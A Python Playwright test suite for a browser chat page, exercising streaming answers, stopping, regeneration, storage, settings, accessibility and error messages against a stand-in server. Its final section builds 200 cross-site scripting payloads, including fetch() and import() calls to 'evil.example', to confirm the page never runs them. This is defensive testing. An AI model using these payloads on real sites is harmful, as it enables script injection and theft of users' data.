"""The chat page in a real browser: Chromium without a window, driven by Playwright.

The server is a stand-in that says what a test wants, under the real one's headers; at the end, serve.py itself.
In every test: no script of anybody else's runs, nothing is asked elsewhere, the page's policy is not offended.

Oracles: what the stand-in was asked and when its client went, the clipboard, the browser's own layout.
"""

import json
import os
import re
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from core import hf_folder
from extras.serve.app import HEADERS, PAGE

CHROMIUM = "/usr/bin/chromium"
playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
if not Path(CHROMIUM).exists():
    pytest.skip(f"{CHROMIUM} is not here", allow_module_level=True)
expect = playwright.expect

ROOT = Path(__file__).resolve().parents[1]
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
]
END = "data: [DONE]\n\n"


def told(text: str = "", end: str | None = None) -> str:
    """One event of a stream."""
    delta = {"content": text} if text else {}
    return (
        f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta, 'finish_reason': end}]}, ensure_ascii=False)}\n\n"
    )


def says(*pieces: str, end: str = "stop", wait_s: float = 0.0):
    """An answer in these pieces, whole."""

    def events(_body):
        yield b'data: {"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}, "finish_reason": null}]}\n\n'
        for piece in pieces:
            yield told(piece).encode()
            time.sleep(wait_s)
        yield (told(end=end) + 'data: {"choices": [], "usage": {"total_tokens": 3}}\n\n' + END).encode()

    return 200, {}, events


def refuses(status: int, message: str, code: str | None = None, **headers: str):
    """An error in OpenAI's shape."""
    error = json.dumps({"error": {"message": message, "type": "t", "param": None, "code": code}}).encode()
    return status, {name.replace("_", "-"): value for name, value in headers.items()}, lambda _body: [error]


class StandIn(ThreadingHTTPServer):
    """Speaks as a test tells it.

    Attributes:
        answers: what the next chats get, in this order; then `otherwise`.
        asked: (headers, body) of each chat. paths: of all requests.
        gone: set when a client left in the middle of an answer.
    """

    daemon_threads = True
    request_queue_size = 64

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_port}"
        self.answers, self.otherwise, self.model = [], says("好的"), "toy"
        self.asked, self.paths, self.gone = [], [], threading.Event()
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    def handle_error(self, *_):
        pass  # a browser that leaves is no news


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def reply(self, status: int, headers: dict, pieces):
        self.send_response(status)
        for name, value in [*((n.decode(), v.decode()) for n, v in HEADERS), *headers.items()]:
            self.send_header(name, value)
        self.end_headers()
        try:
            for piece in pieces:
                self.wfile.write(piece)
                self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError):
            self.server.gone.set()

    def do_GET(self):
        self.server.paths.append(self.path)
        if self.path in PAGE:
            name, kind = PAGE[self.path]
            self.reply(
                200, {"Content-Type": f"{kind}; charset=utf-8"}, [(ROOT / "extras/serve/page" / name).read_bytes()]
            )
        elif self.path == "/v1/models":
            self.reply(
                200, {"Content-Type": "application/json"}, [json.dumps({"data": [{"id": self.server.model}]}).encode()]
            )
        else:
            self.reply(404, {}, [])

    def do_POST(self):
        self.server.paths.append(self.path)
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.asked.append((self.headers, body))
        status, headers, events = self.server.answers.pop(0) if self.server.answers else self.server.otherwise
        kind = "text/event-stream" if status == 200 else "application/json"
        self.reply(status, {"Content-Type": kind} | headers, events(body))


@pytest.fixture(scope="module")
def chromium():
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def stand():
    server = StandIn()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def visit(chromium):
    """(url, options of the context) -> a page in a browser that has seen nothing yet, and is watched."""
    contexts, wrong = [], []

    def visit(url: str, script: str = "", **options):
        context = chromium.new_context(**{"locale": "en-US", "color_scheme": "light"} | options)
        contexts.append(context)
        context.set_default_timeout(10_000)
        context.add_init_script(
            "document.addEventListener('securitypolicyviolation', e => console.error('policy', e.violatedDirective));"
            + script
        )
        context.on("request", lambda r: r.url.startswith(f"{url}/") or wrong.append(r.url))
        context.on("weberror", lambda e: wrong.append(str(e.error)))
        context.on("dialog", lambda d: (wrong.append(d.message), d.dismiss()))
        context.on("console", lambda m: "policy" in m.text.lower() and wrong.append(m.text))
        page = context.new_page()
        page.goto(f"{url}/")
        expect(page.locator("#model")).not_to_be_empty()
        return page

    yield visit
    for context in contexts:
        context.close()
    assert wrong == []


def ask(page, question: str) -> None:
    page.locator("#question").fill(question)
    page.locator("#question").press("Enter")


def answer(page):
    """The text of the last answer."""
    return page.locator("article.assistant .text").last


def answered(page, text: str) -> None:
    expect(answer(page)).to_have_text(text)
    expect(page.locator("#send")).to_be_visible()


def texts(page) -> list[str]:
    return page.locator("article .text").all_text_contents()


def messages(stand, at: int = -1) -> list[tuple[str, str]]:
    """What the server was sent of a conversation."""
    return [(m["role"], m["content"]) for m in stand.asked[at][1]["messages"]]


# A conversation -------------------------------------------------------------------------------------------------------


def test_a_conversation_goes_back_and_forth_and_the_server_gets_all_of_it(stand, visit):
    stand.answers = [says("曹操", "，字孟德。\n", "  沛国谯人"), says("一吉利，<b>阿瞒</b> 😀")]
    page = visit(stand.url)
    assert page.title() == "toy" and page.locator("#model").text_content() == "toy"
    ask(page, "曹操字什么？")
    answered(page, "曹操，字孟德。\n  沛国谯人")
    ask(page, "小字呢？")
    answered(page, "一吉利，<b>阿瞒</b> 😀")
    first = [("user", "曹操字什么？"), ("assistant", "曹操，字孟德。\n  沛国谯人")]
    assert messages(stand, 0) == first[:1] and messages(stand) == [*first, ("user", "小字呢？")]
    assert stand.asked[0][1] == {
        "model": "toy",
        "messages": [{"role": "user", "content": "曹操字什么？"}],
        "stream": True,
    }
    assert page.locator("#chats .open").all_text_contents() == ["曹操字什么？"]
    assert page.locator("#question").input_value() == ""


def test_characters_that_come_in_halves_are_joined(stand, visit):
    whole = b"".join(says("曹操", "字孟德😀")[2](None))

    def one_by_one(_body):
        for k in range(len(whole)):
            yield whole[k : k + 1]
            time.sleep(0.001)

    stand.answers = [(200, {}, one_by_one), (200, {}, lambda _: [whole.replace(b"\n", b"\r\n")])]
    page = visit(stand.url)
    for question in ("字？", "再说"):
        ask(page, question)
        answered(page, "曹操字孟德😀")
    assert texts(page) == ["字？", "曹操字孟德😀", "再说", "曹操字孟德😀"]


def test_text_is_seen_while_it_comes_and_read_out_when_it_is_whole(stand, visit):
    go = threading.Event()

    def events(_body):
        yield told("滚滚长江").encode()
        go.wait(5)
        yield (told("东逝水") + told(end="length") + END).encode()

    stand.answers = [(200, {}, events)]
    page = visit(stand.url)
    ask(page, "词")
    expect(answer(page)).to_have_text("滚滚长江")
    log = page.locator("#log")
    assert (log.get_attribute("aria-busy"), log.get_attribute("aria-live"), log.get_attribute("role")) == (
        "true",
        "polite",
        "log",
    )
    go.set()
    answered(page, "滚滚长江东逝水")
    assert log.get_attribute("aria-busy") == "false"
    expect(page.locator("article .note").last).to_have_text("cut off: the limit of tokens was reached")


def endless(_body):
    while True:
        yield told("字").encode()
        time.sleep(0.01)


@pytest.mark.parametrize("how", ["button", "Escape", "another conversation"])
def test_stop_ends_the_request_and_keeps_what_came(stand, visit, how):
    stand.answers = [(200, {}, endless)]
    page = visit(stand.url)
    ask(page, "不停地说")
    expect(answer(page)).to_contain_text("字字字")
    page.locator("#question").fill("下一个")
    page.locator("#question").press("Enter")  # not while an answer comes
    page.get_by_role("button", name="Settings").click()
    page.keyboard.press("Escape")  # is the settings' own
    expect(page.locator("#dialog")).to_be_hidden()
    expect(page.locator("#stop")).to_be_visible()
    assert not stand.gone.is_set()
    if how == "button":
        page.get_by_role("button", name="Stop").click()
    elif how == "Escape":
        page.keyboard.press("Escape")
    else:
        page.get_by_role("button", name="New conversation").click()
        expect(page.locator("article")).to_have_count(0)
    assert stand.gone.wait(2), "the server was not told"
    assert len(stand.asked) == 1 and page.locator("#question").input_value() == "下一个"
    page.locator("#chats .open").click()
    assert set(answer(page).text_content()) == {"字"}
    expect(page.locator("article .note").last).to_have_text("stopped")
    expect(page.locator("#error")).to_be_empty()
    page.reload()
    expect(answer(page)).to_contain_text("字字字")
    expect(page.locator("article .note").last).to_have_text("stopped")


def broken(body):
    yield told("字").encode()
    yield b"data: {no JSON\n\n"
    yield from endless(body)


def test_the_rest_of_a_broken_answer_is_not_waited_for(stand, visit):
    stand.answers = [(200, {}, broken)]
    page = visit(stand.url)
    ask(page, "词")
    assert stand.gone.wait(5), "the server was not told"
    expect(answer(page)).to_have_text("字")
    expect(page.locator("#error")).not_to_be_empty()


def test_the_end_of_the_answer_stays_in_view_unless_one_reads_further_up(stand, visit):
    stand.answers = [says("长\n" * 100), (200, {}, endless)]
    page = visit(stand.url)
    below = "() => { const l = document.querySelector('#log'); return l.scrollHeight - l.scrollTop - l.clientHeight }"
    ask(page, "长")
    answered(page, "长\n" * 99 + "长")
    assert page.evaluate(below) < 2
    ask(page, "不停地说")
    page.wait_for_function("() => document.querySelector('.coming').textContent.length > 150")
    assert page.evaluate(below) < 2
    page.evaluate("document.querySelector('#log').scrollTop = 100")
    page.wait_for_function("() => document.querySelector('.coming').textContent.length > 250")
    assert page.evaluate("document.querySelector('#log').scrollTop") == 100


def test_stop_before_the_first_word_gives_the_question_back(stand, visit):
    stand.answers = [(200, {}, lambda _: (time.sleep(0.01) or b": still there\n\n" for _ in range(500)))]
    page = visit(stand.url)
    ask(page, "在吗？")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("#question")).to_have_value("在吗？")
    assert stand.gone.wait(2) and texts(page) == []
    page.locator("#question").press("Enter")
    answered(page, "好的")
    assert messages(stand) == [("user", "在吗？")]


def test_regenerate_replaces_the_last_answer_and_only_once_a_new_word_came(stand, visit):
    stand.answers = [says("一"), says("二"), refuses(503, "busy"), says("三")]
    page = visit(stand.url)
    ask(page, "甲")
    answered(page, "一")
    ask(page, "乙")
    answered(page, "二")
    again = page.get_by_role("button", name="Regenerate")
    expect(again).to_have_count(1)
    again.click()
    expect(page.locator("#error")).to_contain_text("busy")
    assert texts(page) == ["甲", "一", "乙", "二"]
    again.click()
    answered(page, "三")
    assert texts(page) == ["甲", "一", "乙", "三"]
    assert messages(stand) == messages(stand, 1) == [("user", "甲"), ("assistant", "一"), ("user", "乙")]
    page.reload()
    expect(page.locator("article")).to_have_count(4)
    assert texts(page) == ["甲", "一", "乙", "三"]


@pytest.mark.parametrize(
    "script", ["", "Object.defineProperty(Navigator.prototype, 'clipboard', {value: undefined});"], ids=["TLS", "plain"]
)
def test_copy_takes_the_answer_and_nothing_else(stand, visit, script):
    text = f"第一行\n<i>第二行</i> {len(script)}"  # the clipboard outlives a context
    stand.answers = [says(text)]
    page = visit(stand.url, script, permissions=["clipboard-read", "clipboard-write"])
    ask(page, "抄")
    answered(page, text)
    page.get_by_role("button", name="Copy").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    page.locator("#question").focus()
    page.keyboard.press("Control+V")
    assert page.locator("#question").input_value() == text


# Several conversations ------------------------------------------------------------------------------------------------


def test_conversations_outlive_a_reload_and_are_deleted_at_the_second_press(stand, visit):
    stand.answers = [says(f"答{k}") for k in range(3)]
    page = visit(stand.url)
    for k, question in enumerate(["第一个 \n 问题", "二" * 100, "第三个"]):
        page.get_by_role("button", name="New conversation").click()
        ask(page, question)
        answered(page, f"答{k}")
    titles = ["第三个", "二" * 60, "第一个 问题"]
    for _ in range(2):
        expect(page.locator("#chats .open")).to_have_text(titles)
        assert texts(page) == ["第三个", "答2"]
        page.reload()
    page.get_by_role("button", name="第一个 问题", exact=True).click()
    assert texts(page) == ["第一个 \n 问题", "答0"]
    expect(page.locator("[aria-current]")).to_have_text("第一个 问题")
    remove = page.get_by_role("button", name="Delete: 第三个")
    remove.click()
    page.locator("#question").focus()  # not meant
    expect(remove).to_have_text("Delete")
    remove.click()
    expect(remove).to_have_text("Delete?")
    remove.click()
    expect(page.locator("#chats .open")).to_have_text(titles[1:])
    assert texts(page) == ["第一个 \n 问题", "答0"]
    page.get_by_role("button", name="Delete: 第一个").dblclick()
    expect(page.locator("article")).to_have_count(0)
    page.reload()
    expect(page.locator("#chats .open")).to_have_text(titles[1:2])


def test_two_tabs_do_not_overwrite_each_others_conversations(stand, visit):
    page = visit(stand.url)
    other = page.context.new_page()
    other.goto(stand.url)
    for tab, question in ((page, "这边"), (other, "那边")):
        ask(tab, question)
        answered(tab, "好的")
    for tab in (page, other):
        expect(tab.locator("#chats .open")).to_have_text(["那边", "这边"])
    stand.answers = [(200, {}, endless)]
    ask(page, "说个不停")
    expect(answer(page)).to_contain_text("字字字")
    other.get_by_role("button", name="这边", exact=True).click()  # the other tab sees a question without an answer
    expect(other.locator("#question")).to_have_value("说个不停")
    other.get_by_role("button", name="Delete: 那边").dblclick()
    expect(page.locator("#chats .open")).to_have_text(["这边"])
    page.keyboard.press("Escape")
    expect(other.locator("article.assistant")).to_have_count(2)
    other.close()
    page.reload()
    expect(page.locator("#chats .open")).to_have_text(["这边"])
    expect(page.locator("article.assistant")).to_have_count(2)


def test_a_question_asked_beside_one_of_another_tab_joins_it(stand, visit):
    page = visit(stand.url)
    ask(page, "甲")
    answered(page, "好的")
    other = page.context.new_page()
    other.goto(stand.url)
    stand.answers = [(200, {}, endless)]
    ask(page, "乙")
    expect(other.locator("article")).to_have_text(["甲", re.compile("好的"), "乙"])
    ask(other, "丙")
    expect(other.locator("article .text")).to_have_text(["甲", "好的", "乙\n丙", "好的"])
    assert messages(stand) == [("user", "甲"), ("assistant", "好的"), ("user", "乙\n丙")]


def test_half_an_answer_and_an_unanswered_question_outlive_a_reload(stand, visit):
    stand.answers = [(200, {}, endless), (200, {}, lambda _: (time.sleep(0.01) or b":\n\n" for _ in range(500)))]
    page = visit(stand.url)
    ask(page, "甲")
    expect(answer(page)).to_contain_text("字字字")
    page.reload()
    expect(answer(page)).to_contain_text("字字字")
    expect(page.locator("article .note").last).to_have_text("the rest did not come")
    ask(page, "乙")
    expect(page.locator("article.user")).to_have_count(2)
    page.reload()
    expect(page.locator("#question")).to_have_value("乙")
    expect(page.locator("article.user")).to_have_count(1)


def test_full_and_damaged_storage_are_told_and_the_conversation_goes_on(stand, visit):
    page = visit(stand.url)
    page.evaluate("""() => {
        localStorage.setItem("chat:bad", "{");
        localStorage.setItem("chat.settings", "{");
        localStorage.setItem("chat.language", "constructor");
        localStorage.setItem("chat:worse", JSON.stringify({title: 1, messages: []}));
        for (let size = 1 << 22, k = 0; size >= 1; k++)
            try { localStorage.setItem("x" + k, "x".repeat(size)); } catch { size >>= 1; }
    }""")
    page.reload()
    expect(page.locator("#error")).to_contain_text("cannot be read and is left as it is: chat:")
    ask(page, "还在吗？")
    answered(page, "好的")
    expect(page.locator("#error")).to_contain_text("storage is full")
    ask(page, "真的？")
    expect(page.locator("article")).to_have_count(4)
    assert page.evaluate("localStorage.getItem('chat:bad')") == "{"


def test_a_browser_that_keeps_nothing_can_chat(stand, visit):
    closed = "for (const name of ['localStorage', 'sessionStorage']) Object.defineProperty(window, name, {get() { throw new DOMException('no', 'SecurityError') }});"
    page = visit(stand.url, closed)
    ask(page, "在吗？")
    answered(page, "好的")
    expect(page.locator("#error")).to_contain_text("storage is full or closed")


# Settings, language, colours, sizes, keys -----------------------------------------------------------------------------


def test_settings_go_with_each_question_and_the_key_stays_in_the_tab(stand, visit):
    page = visit(stand.url)
    page.get_by_role("button", name="Settings").click()
    for label, value in {
        "System prompt": "你是曹操。",
        "Temperature": "0.5",
        "Top p": "0.9",
        "Max tokens": "64",
        "Seed": "7",
        "API key": "秘密",
    }.items():
        page.get_by_label(label).fill(value)
    page.get_by_role("button", name="Save").click()  # a key is ASCII: a header takes nothing else
    expect(page.locator("#dialog")).to_be_visible()
    page.get_by_label("API key").fill(" se cret ")
    page.get_by_role("button", name="Save").click()
    expect(page.locator("#dialog")).to_be_hidden()
    ask(page, "你是谁？")
    answered(page, "好的")
    headers, body = stand.asked[-1]
    assert headers["Authorization"] == "Bearer se cret"
    assert {name: body[name] for name in body if name not in ("messages", "model", "stream")} == {
        "temperature": 0.5,
        "top_p": 0.9,
        "max_tokens": 64,
        "seed": 7,
    }
    assert messages(stand) == [("system", "你是曹操。"), ("user", "你是谁？")]
    assert "cret" not in page.evaluate("JSON.stringify(localStorage)")
    page.reload()
    page.get_by_role("button", name="Settings").click()
    assert page.get_by_label("Seed").input_value() == "7" and page.get_by_label("API key").input_value() == "se cret"
    page.get_by_label("Seed").fill("8")
    page.keyboard.press("Escape")  # closes without saving
    page.get_by_role("button", name="Settings").click()
    assert page.get_by_label("Seed").input_value() == "7"
    for label in ("System prompt", "Temperature", "Top p", "Max tokens", "Seed", "API key"):
        page.get_by_label(label).fill("")
    page.get_by_role("button", name="Save").click()
    ask(page, "现在呢？")
    expect(page.locator("article")).to_have_count(4)
    answered(page, "好的")
    headers, body = stand.asked[-1]
    assert headers["Authorization"] is None and body.keys() == {"model", "messages", "stream"}
    tab = page.context.new_page()
    tab.goto(stand.url)
    assert tab.evaluate("sessionStorage.getItem('chat.key')") is None


@pytest.mark.parametrize(
    "locale, words, lang, switch",
    [("zh-CN", "发送", "zh-CN", "English"), ("zh-TW", "发送", "zh-CN", "English"), ("de-DE", "Send", "en", "中文")],
)
def test_the_language_is_the_browsers_until_it_is_switched(stand, visit, locale, words, lang, switch):
    page = visit(stand.url, locale=locale)
    send = page.locator("#send")
    assert send.text_content() == words and page.locator("html").get_attribute("lang") == lang
    ask(page, "好？")
    answered(page, "好的")
    page.get_by_role("button", name=switch).click()
    other = {"发送": "Send", "Send": "发送"}[words]
    for _ in range(2):
        expect(send).to_have_text(other)
        expect(page.get_by_role("button", name={"Send": "Copy", "发送": "复制"}[other])).to_be_visible()
        page.reload()


def test_every_word_stands_in_both_languages():
    code = (ROOT / "extras/serve/page/chat.js").read_text()
    tables = (
        re.sub(r'"[^"]*"', '""', code.partition(f"  {name}: {{")[2].partition("\n  },")[0]) for name in ("en", "zh")
    )
    en, zh = (re.findall(r'(\w+): ""', table) for table in tables)
    used = set(re.findall(r'data-(?:say|name)="(\w+)"', (ROOT / "extras/serve/page/index.html").read_text()))
    used |= set(re.findall(r'(?:say|button)\("(\w+)"', code)) | {"user", "assistant"}
    assert zh == en and used <= set(en)
    assert set(en) - used == {"length", "stopped", "broken"}  # an answer's notes


def luminance(page, selector: str, what: str) -> float:
    """Of a colour as it is painted, by WCAG's formula."""
    rgb = page.locator(selector).first.evaluate(
        """(e, what) => { const c = document.createElement("canvas").getContext("2d");
        c.fillStyle = getComputedStyle(e)[what]; c.fillRect(0, 0, 1, 1); return [...c.getImageData(0, 0, 1, 1).data] }""",
        what,
    )
    parts = [c / 255 / 12.92 if c / 255 <= 0.04045 else ((c / 255 + 0.055) / 1.055) ** 2.4 for c in rgb[:3]]
    return 0.2126 * parts[0] + 0.7152 * parts[1] + 0.0722 * parts[2]


def test_dark_mode_is_the_systems_until_it_is_switched_and_text_stands_out_in_both(stand, visit):
    stand.answers = [says("好的", end="length"), refuses(400, "no")] * 2
    for scheme in ("light", "dark"):
        page = visit(stand.url, color_scheme=scheme)
        for question in ("好？", "不？"):
            ask(page, question)
            expect(page.locator("#send")).to_be_visible()
        expect(page.locator("#error")).not_to_be_empty()
        for now in (scheme, {"light": "dark", "dark": "light"}[scheme]):
            back = luminance(page, "body", "backgroundColor")
            assert (back > 0.5) == (now == "light")
            for selector in (".assistant .text", "article .note", "#hint", "#error", ".tools button", "header button"):
                low, high = sorted((luminance(page, selector, "color"), back))
                assert (high + 0.05) / (low + 0.05) >= 4.5, (now, selector)
            page.get_by_role("button", name="Dark or light").click()
        page.get_by_role("button", name="Dark or light").click()
        page.reload()
        assert (luminance(page, "body", "backgroundColor") > 0.5) == (scheme == "dark")


@pytest.mark.parametrize("width", [320, 400])
def test_on_a_phone_nothing_is_wider_than_the_screen_and_the_sidebar_folds(stand, visit, width):
    long = "https://example.com/" + "a" * 300 + "曹操" * 100
    stand.model, stand.otherwise = "a-model-with-a-very-long-name-" * 4, says(long)
    page = visit(stand.url, viewport={"width": width, "height": 640}, has_touch=True, is_mobile=True)

    def fits():
        wide = page.evaluate("""() => [...document.querySelectorAll("body, body *")].filter(e => e.checkVisibility() &&
            (e.getBoundingClientRect().right > innerWidth + 0.5 || e.getBoundingClientRect().left < -0.5 ||
             getComputedStyle(e).overflowX == "auto" && e.scrollWidth > e.clientWidth)).map(e => e.outerHTML.slice(0, 80))""")
        assert wide == [] and page.evaluate("document.documentElement.scrollWidth <= innerWidth && innerWidth") == width

    fits()
    expect(page.locator("#side")).to_be_hidden()
    ask(page, long)
    answered(page, long)
    stand.answers = [refuses(400, long)]
    ask(page, "短")
    expect(page.locator("#error")).to_contain_text(long)
    fits()
    opener = page.get_by_role("button", name="Conversations")
    assert opener.get_attribute("aria-expanded") == "false"
    opener.click()
    assert opener.get_attribute("aria-expanded") == "true"
    fits()
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("#side")).to_be_hidden()
    opener.click()
    page.keyboard.press("Escape")
    expect(page.locator("#side")).to_be_hidden()
    page.get_by_role("button", name="Settings").click()
    fits()


def test_keys_do_it_all(stand, visit):
    page = visit(stand.url)
    box = page.locator("#question")
    expect(box).to_be_focused()
    height = box.bounding_box()["height"]
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert box.input_value() == "one\ntwo" and box.bounding_box()["height"] > height and not stand.asked
    page.keyboard.press("Enter")
    answered(page, "好的")
    assert messages(stand) == [("user", "one\ntwo")] and box.bounding_box()["height"] == height
    expect(box).to_be_focused()
    page.keyboard.type("  ")
    page.keyboard.press("Enter")  # nothing is asked with nothing
    reached = []
    for _ in range(30):
        page.keyboard.press("Tab")
        reached.append(
            page.evaluate("""() => { const e = document.activeElement, s = getComputedStyle(e);
            return [e == document.body ? "" : e.ariaLabel || e.textContent, s.outlineStyle != "none" && parseFloat(s.outlineWidth) >= 2, Number(s.opacity)]; }""")
        )
        if reached[-1][0] == "Your question":
            break
    assert [name for name, *_ in reached if name] == [
        "Send",
        "New conversation",
        "one two",
        "Delete: one two",
        "Conversations",
        "中文",
        "Dark or light",
        "Settings",
        "Answers",
        "Copy",
        "Regenerate",
        "Your question",
    ]
    assert all(outlined and opacity == 1 for name, outlined, opacity in reached if name), reached
    assert len(stand.asked) == 1


def test_while_an_input_method_composes_enter_and_escape_are_its_own(stand, visit):
    page = visit(stand.url)
    stand.answers = [(200, {}, endless)]
    method = page.context.new_cdp_session(page)

    def compose(text: str):
        method.send("Input.imeSetComposition", {"text": text, "selectionStart": len(text), "selectionEnd": len(text)})

    page.evaluate("document.addEventListener('keydown', e => (window.composing ??= []).push(e.isComposing))")
    compose("caocao")
    page.keyboard.press("Enter")
    assert page.evaluate("composing") == [True] and not stand.asked
    method.send("Input.insertText", {"text": "曹操"})
    page.keyboard.press("Enter")
    expect(answer(page)).to_contain_text("字字字")
    assert messages(stand)[0][1].endswith("曹操")
    compose("kong")
    page.keyboard.press("Escape")
    assert not stand.gone.wait(0.3)
    method.send("Input.insertText", {"text": "孔"})
    page.keyboard.press("Escape")
    assert stand.gone.wait(2)


def test_everything_that_can_be_pressed_or_filled_has_a_name(stand, visit):
    page = visit(stand.url)
    ask(page, "好？")
    answered(page, "好的")
    page.get_by_role("button", name="Settings").click()
    nameless = page.evaluate("""() => [...document.querySelectorAll("button, input, textarea")].filter(e =>
        !(e.ariaLabel || [...(e.labels ?? [])].map(l => l.textContent).join("").trim() || e.textContent.trim())).map(e => e.outerHTML)""")
    assert nameless == []


# What goes wrong ------------------------------------------------------------------------------------------------------


def cut_off(_body):
    yield told("半").encode()
    time.sleep(0.2)  # a browser drops what it has not handed over when the connection breaks


def failed(_body):
    yield (told("半") + 'data: {"error": {"message": "the server failed under 7f"}}\n\n').encode()


@pytest.mark.parametrize(
    "reply, line, kept",
    [
        (
            refuses(401, "the API key is missing or wrong", "invalid_api_key"),
            "The server wants an API key, and this one is missing or wrong: enter it in the settings.",
            "",
        ),
        (
            refuses(400, "the prompt has 300 tokens, the context of this model 128", "context_length_exceeded"),
            "The conversation is longer than the model can read: begin a new one, or ask less. the prompt has 300 tokens, the context of this model 128",
            "",
        ),
        (
            refuses(400, "top_p must be a number above 0 and at most 1"),
            "The server refused: top_p must be a number above 0 and at most 1",
            "",
        ),
        (refuses(503, "too many", "overloaded", Retry_After="7"), "The server is busy: try again in 7 s.", ""),
        (refuses(503, "too many", Retry_After="Wed, 21 Oct 2099 07:28:00 GMT"), "The server is busy: try again.", ""),
        ((502, {}, lambda _: [b"<html>Bad gateway"]), "The server refused: HTTP 502", ""),
        ((200, {}, cut_off), "The connection ended before the answer did.", "半"),
        (
            (200, {"Content-Length": "100000"}, cut_off),
            "The server cannot be reached: is it running, and the network up?",
            "半",
        ),
        ((200, {}, failed), "The server refused: the server failed under 7f", "半"),
        (says(), "The model said nothing.", ""),
    ],
    ids=["401", "full", "400", "503", "503 with a date", "502", "cut off", "lost", "failed", "silent"],
)
def test_an_error_is_one_line_and_the_next_try_works(stand, visit, reply, line, kept):
    stand.answers = [reply]
    page = visit(stand.url)
    ask(page, "问")
    expect(page.locator("#error")).to_have_text(line)
    assert page.locator("#error").get_attribute("role") == "alert"
    expect(page.locator("#question")).to_have_value(
        "" if kept else "问"
    )  # without an answer it is there to be asked again
    assert texts(page) == (["问", kept] if kept else [])
    if kept:
        expect(page.locator("article .note").last).to_have_text("the rest did not come")
        page.get_by_role("button", name="Regenerate").click()
    else:
        page.locator("#question").press("Enter")
    answered(page, "好的")
    expect(page.locator("#error")).to_be_empty()
    assert messages(stand) == [("user", "问")]


def test_a_network_that_went_away_is_told_and_comes_back(stand, visit):
    page = visit(stand.url)
    page.context.set_offline(True)
    ask(page, "在吗？")
    expect(page.locator("#error")).to_have_text("The server cannot be reached: is it running, and the network up?")
    page.context.set_offline(False)
    page.locator("#question").press("Enter")
    answered(page, "好的")


def test_another_model_behind_the_same_address_is_noticed(stand, visit):
    page = visit(stand.url)
    stand.model, stand.answers = "other", [refuses(404, "there is no model toy, only other", "model_not_found")]
    ask(page, "在吗？")
    expect(page.locator("#error")).to_contain_text("there is no model toy, only other")
    page.locator("#question").press("Enter")
    answered(page, "好的")
    assert stand.asked[-1][1]["model"] == page.locator("#model").text_content() == "other"


# Text stays text ------------------------------------------------------------------------------------------------------


def payloads() -> list[str]:
    """200 texts that would run something, or ask elsewhere, wherever one of them became HTML, a URL, code or a style."""
    ways = [
        "alert({})",
        "top['al'+'ert']({})",
        "fetch('//evil.example/{}')",
        "document.title='hit{}'",
        "import('//evil.example/{}.js')",
    ]
    shapes = [
        "<script>{}</script>",
        "</script><script>{}</script>",
        "<script src=data:,{}></script>",
        "<ScRiPt>{}</sCrIpT>",
        "<img src=x onerror={}>",
        '"><img src=x onerror="{}">',
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><animate onbegin={} attributeName=x dur=1s>",
        "<iframe srcdoc='<script>{}</script>'></iframe>",
        '<iframe src="javascript:{}">',
        '<a href="javascript:{}">x</a>',
        "[x](javascript:{})",
        '![x](//evil.example/x.png"onerror="{})',
        "<details open ontoggle={}>x",
        "<input autofocus onfocus={}>",
        "<textarea autofocus onfocus={}>",
        "</textarea><script>{}</script>",
        "<video><source onerror={}>",
        "<body onload={}>",
        "<style>@import'//evil.example/x.css'</style><x onclick={}>",
        "<link rel=stylesheet href=//evil.example/x.css><b onmouseover={}>",
        "<base href=//evil.example/><script>{}</script>",
        '<meta http-equiv=refresh content="0;url=javascript:{}">',
        "<form action=javascript:{}><button autofocus>",
        '<object data="javascript:{}">',
        "<math><mtext><table><mglyph><style><img src onerror={}>",
        '<noscript><p title="</noscript><img src=x onerror={}>">',
        "<template shadowrootmode=open><script>{}</script></template>",
        "' onfocus='{}' autofocus x='",
        '" onmouseover="{}" x="',
        "`${{{}}}`",
        "{{{{constructor.constructor('{}')()}}}}",
        "';{};//",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "&lt;script&gt;{}&lt;/script&gt;&#60;img src=x onerror=1&#62;",
        "<!--><script>{}</script>-->",
        "<x style='background:url(//evil.example/x)' onanimationstart={}>",
        "\u202e<img src=x onerror={}>",
        "]]><script>{}</script>",
    ]
    made = [shape.format(way.format(k)) for k, shape in enumerate(shapes) for way in ways]
    assert len(set(made)) == 200
    return made


# What the page has: its elements with the names of their attributes.
SKELETON = (
    """() => [...document.querySelectorAll("*")].map(e => e.tagName + [...e.attributes].map(a => a.name).sort())"""
)
DRIVE = """async (payloads) => {
    const at = (s) => document.querySelector(s)?.textContent;
    const until = async (so) => { for (let k = 0; !so(); k++) { if (k > 2000) throw Error(payload); await new Promise(r => setTimeout(r, 2)); } };
    const skeleton = SKELETON, seen = [];
    let payload;
    for (payload of payloads) {
        for (const remove of document.querySelectorAll("#chats .quiet")) remove.click(), remove.click();
        document.querySelector("#new").click();
        document.querySelector("#question").value = payload;
        document.querySelector("#ask").requestSubmit();
        await until(() => document.querySelector("#send").checkVisibility() && at("#error"));
        const refused = at("#error");
        document.querySelector("#ask").requestSubmit();
        await until(() => document.querySelector("#send").checkVisibility() && at(".assistant .text"));
        seen.push([refused, at(".user .text"), at(".assistant .text"), at("#model"), document.title, at("#chats .open"), skeleton()]);
    }
    return seen;
}""".replace("SKELETON", SKELETON)


@pytest.mark.heavy
def test_none_of_200_payloads_runs_whoever_says_it(stand, visit):
